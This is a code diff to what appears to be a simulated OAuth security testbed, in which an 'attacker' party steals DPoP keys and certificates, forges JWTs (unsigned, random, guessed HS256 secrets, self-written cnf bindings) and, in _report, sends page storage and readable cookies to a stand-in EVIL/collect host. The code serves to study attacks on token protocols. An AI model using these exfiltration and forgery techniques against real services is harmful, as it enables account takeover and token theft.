@@ -13,13 +13,16 @@ from urllib.parse import urlencode, urlsplit, urlunsplit
 
 from sandbox import grammar
 from sandbox.cast import CAST, EVIL
+from sandbox.cast import resource as named_in_tokens
+from sandbox.certificates import certificate_thumbprint
 from sandbox.parties.authorization_server import AuthorizationServer
 from sandbox.parties.browser import Browser
-from sandbox.parties.client import Refused, Session
+from sandbox.parties.client import OAuthClient, Refused, Session
 from sandbox.parties.client_hosts import Hosted
+from sandbox.parties.people import Directory
 from sandbox.proofs import prove
 from sandbox.tokens import Decoded, Key, NotAJwt, b64, decode, packed, pem, shared_key, signature_fits
-from sandbox.wire import FORM, JSON, Pairs, Request, Response, first, form_request, header, json_request, pairs, split
+from sandbox.wire import FORM, JSON, Pairs, Request, Response, first, form_request, header, json_request, origin, pairs, split
 from sandbox.world import World
 
 Outputs = dict[str, Any]
@@ -39,8 +42,10 @@ def sign_in(world: World, actor: str, args: grammar.SignIn) -> Outputs:
     client, browser = world.clients[actor], world.browsers[args.browser]
     browser.begin(args.hold or "")
     at, api = CAST[args.at].host if args.at else "", CAST[args.api].host if args.api else ""
-    browser.visit(client.start_url(scope=args.scope or "", at=at, api=api, response=args.response or ""))
+    how = args.how if args.how != "redirect" else ""
+    browser.visit(client.start_url(scope=args.scope or "", at=at, api=api, response=args.response or "", how=how))
     _say_yes(world, browser, args.user or browser.owner)
+    _on_her_device(world, client, browser)
     return _where(browser) | _held_by(client.session_in(browser))
 
 
@@ -58,8 +63,14 @@ def _fill(world: World, browser: Browser, user: str, password: str | None) -> No
     forms = browser.forms()
     if not forms:
         raise Missing("a form on the page")
-    known = world.people.users[user].password if user in world.people.users else ""
-    browser.submit(forms[0], {"username": user, "password": known if password is None else password})
+    here = world.bank.people if world.net.hosts.get(origin(browser.url)) == "bank" else world.people
+    filled = {"username": user, "password": _password(here, user), "bank_password": _password(world.bank.people, user)}
+    browser.submit(forms[0], filled if password is None else filled | {"password": password})
+
+
+def _password(people: Directory, user: str) -> str:
+    """The user's own password there; '' for somebody who has no account."""
+    return people.users[user].password if user in people.users else ""
 
 
 def _where(browser: Browser) -> Outputs:
@@ -118,7 +129,7 @@ def log_out(world: World, actor: str, args: grammar.LogOut) -> Outputs:
 
 
 def disconnect(world: World, actor: str, args: grammar.Disconnect) -> Outputs:
-    browser, issuer = world.browsers[actor], world.issuer
+    browser, issuer = world.browsers[actor], world.bank if args.at == "bank" else world.issuer
     fields = {"client": args.client} | ({"device": args.device} if args.device else {})
     response = browser.send(form_request(f"{issuer.issuer}/account/sessions", fields), f"{issuer.issuer}/account")
     if response.status == 404:  # there is no such page: all that can be done is to log this browser out
@@ -132,27 +143,56 @@ def disconnect(world: World, actor: str, args: grammar.Disconnect) -> Outputs:
 def call_api(world: World, actor: str, args: grammar.CallApi) -> Outputs:
     request = _api_request(args)
     if actor == world.attacker.name:
+        _own_keys(world)
         sent = world.attacker.present(request, _text(args.token), args.scheme or "")
         world.net.deliver(sent, args.from_ or actor)
         return {}
-    if args.browser is None:
-        raise Missing("a browser with a session")
+    if args.browser is None or actor in world.services:
+        _in_its_own_name(world, actor, args, request)
+        return {}
     client, browser = world.clients[actor], world.browsers[args.browser]
-    session, resource = client.session_in(browser), CAST[args.api].host
+    session, resource = client.session_in(browser), named_in_tokens(args.api)
     if session is None or not session.tokens:
         raise Missing("an access token")
     if args.token is not None:
         client.sender(browser)(request.with_header("Authorization", f"Bearer {_text(args.token)}"))
         return {}
-    if client.lacks_token(session, resource):
+    if CAST[args.api].kind == "api" and client.lacks_token(session, resource):
         _token_for(world, client, browser, session, resource)
-    client.call(session, request, resource, client.sender(browser))
+    client.fetch(browser, session, request, resource)
     return {}
 
 
 def _api_request(args: grammar.CallApi) -> Request:
-    url, headers = CAST[args.api].host + args.path, tuple((args.headers or {}).items())
+    url, headers = CAST[args.via or args.api].host + args.path, tuple((args.headers or {}).items())
     return json_request(args.method, url, args.json_, headers) if args.json_ is not None else Request(args.method, url, headers)
+
+
+def _in_its_own_name(world: World, actor: str, args: grammar.CallApi, request: Request) -> None:
+    """A request that belongs to nobody's session: with a token given to the client, or with one that it got for itself."""
+    client = _client(world, actor)
+    session, resource = client.own, CAST[args.api].host
+    if args.token is None and not session.tokens:
+        raise Missing("a browser with a session, or a token")
+    token = _text(args.token) if args.token is not None else session.access_token(resource)
+    if token in session.tokens.values():
+        client.call(session, request, next(r for r, t in session.tokens.items() if t == token), lambda r: client.ask(session, r))
+    else:
+        client.ask(session, request.with_header("Authorization", f"Bearer {token}"))
+
+
+def _client(world: World, actor: str) -> OAuthClient:
+    """The actor as a client; a service is one, too."""
+    return world.clients[actor] if actor in world.clients else world.services[actor]
+
+
+def _own_keys(world: World) -> None:
+    """The keys that clients keep in browsers of hers are hers."""
+    for device in (b.name for b in world.browsers.values() if CAST[b.name].hers):
+        for client in world.clients.values():
+            session = client.sessions.get(device)
+            if session is not None and session.bound:
+                world.attacker.keep(client.proof_key(session))
 
 
 def _token_for(world: World, client: Hosted, browser: Browser, session: Session, resource: str) -> None:
@@ -179,6 +219,7 @@ def refresh(world: World, actor: str, args: grammar.Refresh) -> Outputs:
         client.accept(session, client.sender(browser)(client.refresh_request(session)))
     except Refused:
         return {"access_token": None, "refresh_token": None}
+    _on_her_device(world, client, browser)
     return _held_by(session)
 
 
@@ -194,12 +235,17 @@ def redeem(world: World, actor: str, args: grammar.Redeem) -> Outputs:
         request = form_request(f"{issuer.issuer}/token", _grant(args))
         response = world.net.deliver(_with_proof(world, actor, args, request, issuer), actor)
     body = response.json if response.ok and isinstance(response.json, dict) else {}
+    if actor != world.attacker.name and isinstance(body.get("access_token"), str):
+        own = _client(world, actor).own
+        own.tokens[CAST[args.api].host if args.api else "any"] = body["access_token"]
+        own.bound = str(body.get("token_type")).lower() == "dpop"
     renewed = body.get("refresh_token") or (args.refresh_token if body else None)
     return {"access_token": body.get("access_token"), "refresh_token": renewed, "id_token": body.get("id_token")}
 
 
 def _grant(args: grammar.Redeem) -> dict[str, str]:
     fields: dict[str, Any] = {"client_id": args.client, "client_secret": args.client_secret, "scope": args.scope}
+    fields |= {"resource": CAST[args.api].host} if args.api else {}
     if args.code is not None:
         redirect = args.redirect_uri or (f"{CAST[args.client].host}/cb" if args.client in CAST else None)
         fields |= {"grant_type": "authorization_code", "code": args.code, "redirect_uri": redirect, "code_verifier": args.verifier}
@@ -215,7 +261,10 @@ def _grant(args: grammar.Redeem) -> dict[str, str]:
 def _with_proof(world: World, actor: str, args: grammar.Redeem, request: Request, issuer: AuthorizationServer) -> Request:
     """With the client's secret if the client itself asks; with a DPoP proof if the server knows DPoP, by the best key at hand."""
     if actor != world.attacker.name:
-        return world.clients[actor].authenticated(request)
+        client = _client(world, actor)
+        return client.proved(client.own, client.authenticated(request))
+    if "tls_client_certificate_bound_access_tokens" in issuer.describe():
+        request = replace(request, certificate=world.attacker.certificate())
     if "dpop_signing_alg_values_supported" not in issuer.describe():
         return request
     key = next(reversed(world.attacker.keys.values()))  # a taken key, if there is one, else her own
@@ -230,7 +279,8 @@ def send(world: World, actor: str, args: grammar.Send) -> Outputs:
     if args.like is not None:
         if not isinstance(args.like, Request):
             raise Missing("a message to copy")
-        request = replace(args.like, peer="")
+        own = world.attacker.certificate() if args.like.certificate and actor == world.attacker.name else ""
+        request = replace(args.like, peer="", certificate=own)  # a message can be copied, a connection cannot
     else:
         request = _built(args)
     request = changed(request, args.change)
@@ -265,18 +315,16 @@ def read(world: World, actor: str, args: grammar.Read) -> Outputs:
     if args.log is not None:
         return _read_log(world, args.log, args.match)
     if args.history is not None:
-        return _read_history(world, args.history, args.match)
+        return _read_address(world, world.browsers[args.history].history, args.match, f"the history of {args.history}")
     if args.storage is not None:
-        client = world.clients[args.storage]
-        found = [client.session_in(world.browsers[args.browser])] if args.browser else list(client.sessions.values())
-        return _take(world, (s for s in found if s is not None), f"the storage of {args.storage}", None)
+        return _read_storage(world, args.storage, args.browser, args.take)
     return _read_device(world, args.device or "")
 
 
 def _read_log(world: World, party: str, match: str | None) -> Outputs:
     """The newest entry that matches.  An API writes down requests; a browser's extension writes down addresses."""
     if party in world.browsers:
-        return _read_history(world, party, match)
+        return _read_address(world, world.browsers[party].addresses, match, f"an extension in {party}")
     entries = world.apis[party].log if party in world.apis else []
     entry = next((r for r in reversed(entries) if match is None or match in r.url), None)
     if entry is None:
@@ -292,13 +340,40 @@ def _read_log(world: World, party: str, match: str | None) -> Outputs:
     return {"request": None, "url": entry.url, "access_token": None}
 
 
-def _read_history(world: World, browser: str, match: str | None) -> Outputs:
-    url = next((u for u in reversed(world.browsers[browser].history) if match is None or match in u), None)
+def _read_address(world: World, addresses: list[str], match: str | None, source: str) -> Outputs:
+    """The newest address that matches, and the token in it if there is one."""
+    url = next((u for u in reversed(addresses) if match is None or match in u), None)
     if url is None:
         return {"url": None, "access_token": None}
-    world.net.learned(world.attacker.name, "url", url, f"the history of {browser}")
+    world.net.learned(world.attacker.name, "url", url, source)
     parts = split(url)
     return {"url": url, "access_token": first(pairs(parts.fragment), "access_token") or first(pairs(parts.query), "access_token")}
+
+
+def _read_storage(world: World, name: str, browser: str | None, take: bool) -> Outputs:
+    """All that a client has stored: on its server, or in one browser."""
+    client = world.clients[name]
+    if browser is None:
+        return _take(world, client.sessions.values(), f"the storage of {name}")
+    session = client.stored(world.browsers[browser])
+    if client.in_page:
+        out = _report(client, world.browsers[browser], session)
+    else:
+        out = _take(world, [session] if session else [], f"the storage of {name} in {browser}")
+    if take and session is not None:
+        session.tokens.clear()
+        session.refresh_token = session.id_token = ""
+    return out
+
+
+def _report(client: Hosted, browser: Browser, session: Session | None) -> Outputs:
+    """A script in the client's page sends home what it can read: the storage, and the cookies that scripts may see."""
+    jar = browser.cookies.get(split(client.home).netloc, {})
+    cookies = "; ".join(f"{name}={cookie.value}" for name, cookie in jar.items() if not cookie.http_only)
+    held = _held_by(session)
+    storage = {k: v for k, v in held.items() if v}
+    browser.send(json_request("POST", f"{EVIL}/collect", {"storage": storage, "cookies": cookies}), f"{client.home}/")
+    return held
 
 
 def _read_device(world: World, device: str) -> Outputs:
@@ -308,14 +383,34 @@ def _read_device(world: World, device: str) -> Outputs:
         session = client.sessions.get(device)  # clients on a web server keep nothing here
         if session is not None and session.tokens:
             found.append(session)
-            if session.bound:
-                key = client.proof_key(session)
-                world.attacker.keep(key)
-                world.net.learned(world.attacker.name, "key", key.thumbprint, device)
-    return _take(world, found, device, None)
+            _keep_keys(world, client, device, device)
+    return _take(world, found, device)
 
 
-def _take(world: World, sessions: Iterable[Session], source: str, match: str | None) -> Outputs:
+def _on_her_device(world: World, client: Hosted, browser: Browser) -> None:
+    """Whatever a client keeps on a device of the attacker's, she has."""
+    session = client.sessions.get(browser.name)
+    if browser.owner == world.attacker.name and session is not None:
+        _keep_keys(world, client, browser.name, "her own device")
+        _take(world, [session], "her own device")
+
+
+def _keep_keys(world: World, client: Hosted, device: str, source: str) -> None:
+    """The keys that a client keeps on a device work for whoever holds it: the DPoP key, and that of the certificate."""
+    session = client.sessions.get(device)  # clients on a web server keep nothing here
+    if session is None:
+        return
+    key = client.proof_key(session) if session.bound else None
+    if key is not None:
+        world.attacker.keep(key)
+        world.net.learned(world.attacker.name, "key", key.thumbprint, source)
+    if session.certificate:
+        world.attacker.keep_certificate(session.certificate)
+        world.net.learned(world.attacker.name, "certificate", session.certificate, source)
+    world.attacker.taken |= dict.fromkeys(session.tokens.values(), (key, session.certificate))
+
+
+def _take(world: World, sessions: Iterable[Session], source: str) -> Outputs:
     out: Outputs = {"access_token": None, "refresh_token": None, "id_token": None}
     for session in sessions:
         held = _held_by(session)
@@ -340,11 +435,27 @@ def forge(world: World, actor: str, args: grammar.Forge) -> Outputs:
         token = decode(source)
     except NotAJwt as error:
         raise Missing(f"a token to start from: {error}") from None
-    head = {k: v for k, v in (token.header | (args.header or {})).items() if v is not None}
-    claims = {k: v for k, v in (token.claims | (args.claims or {})).items() if v is not None}
-    forged = _signed(world, token, head, claims, args.key)
+    key = args.key["key"] if isinstance(args.key, dict) and isinstance(args.key.get("key"), Key) else args.key
+    alg = {"alg": key.alg} if isinstance(key, Key) else {}
+    head = {k: v for k, v in (token.header | alg | (args.header or {})).items() if v is not None}
+    claims = {k: v for k, v in (token.claims | _own_binding(world, token) | (args.claims or {})).items() if v is not None}
+    if key == "guessed":
+        key = _guess(token)
+        if key is None:
+            world.net.noted(actor, "No word of the list has made this signature.")
+            return {"token": None}
+    forged = _signed(world, head, claims, key)
     world.net.learned(actor, "forged_token", forged, "made it")
     return {"token": forged}
+
+
+def _own_binding(world: World, token: Decoded) -> dict[str, Any]:
+    """Where tokens are bound to a key or a certificate, she writes her own into the one that she makes."""
+    cnf = token.claims.get("cnf")
+    if not isinstance(cnf, dict):
+        return {}
+    mine = {"jkt": next(iter(world.attacker.keys)), "x5t#S256": certificate_thumbprint(world.attacker.certificate())}
+    return {"cnf": {k: v for k, v in mine.items() if k in cnf}}
 
 
 def _genuine_look(world: World) -> str:
@@ -361,12 +472,15 @@ def _genuine_look(world: World) -> str:
     }
     if issuer.policy["stamp_aud"] == "on":
         claims["aud"] = CAST["accounts"].host
+    bound = {"jkt": issuer.policy["dpop_bind"], "x5t#S256": issuer.policy["mtls_bind"]}
+    if isinstance(issuer, AuthorizationServer) and "on" in bound.values():
+        claims["cnf"] = {k: "" for k, v in bound.items() if v == "on"}
     key: Key = issuer.core.key if isinstance(issuer, AuthorizationServer) else issuer.key
     head = {"alg": key.alg, "typ": "at+jwt" if issuer.policy["stamp_typ"] == "on" else "JWT"} | ({"kid": key.kid} if key.kid else {})
     return f"{packed(head)}.{packed(claims)}."
 
 
-def _signed(world: World, source: Decoded, head: dict[str, Any], claims: dict[str, Any], key: Any) -> str:
+def _signed(world: World, head: dict[str, Any], claims: dict[str, Any], key: Any) -> str:
     body = f"{packed(head)}.{packed(claims)}"
     if isinstance(key, Key):
         return key.seal(head, claims)
@@ -374,16 +488,13 @@ def _signed(world: World, source: Decoded, head: dict[str, Any], claims: dict[st
         return body + "."
     if key in ("random", "zeros"):
         return f"{body}.{b64(world.net.entropy.bytes('forged signature', 64) if key == 'random' else bytes(64))}"
-    word = _guess(source) if key == "guessed" else pem(key) if isinstance(key, dict) else str(key).encode()
+    word = pem(key) if isinstance(key, dict) else str(key).encode()
     return shared_key(word.decode("latin-1")).seal(head | {"alg": "HS256"}, claims)
 
 
-def _guess(token: Decoded) -> bytes:
+def _guess(token: Decoded) -> str | None:
     """Offline guessing: which word of the list has signed the token that she has?"""
-    for word in GUESSES:
-        if signature_fits(token, word.encode(), "HS256"):
-            return word.encode()
-    raise Missing("a word that fits the signature")
+    return next((word for word in GUESSES if signature_fits(token, word.encode(), "HS256")), None)
 
 
 # ---------------------------------------------------------------- operator and clock
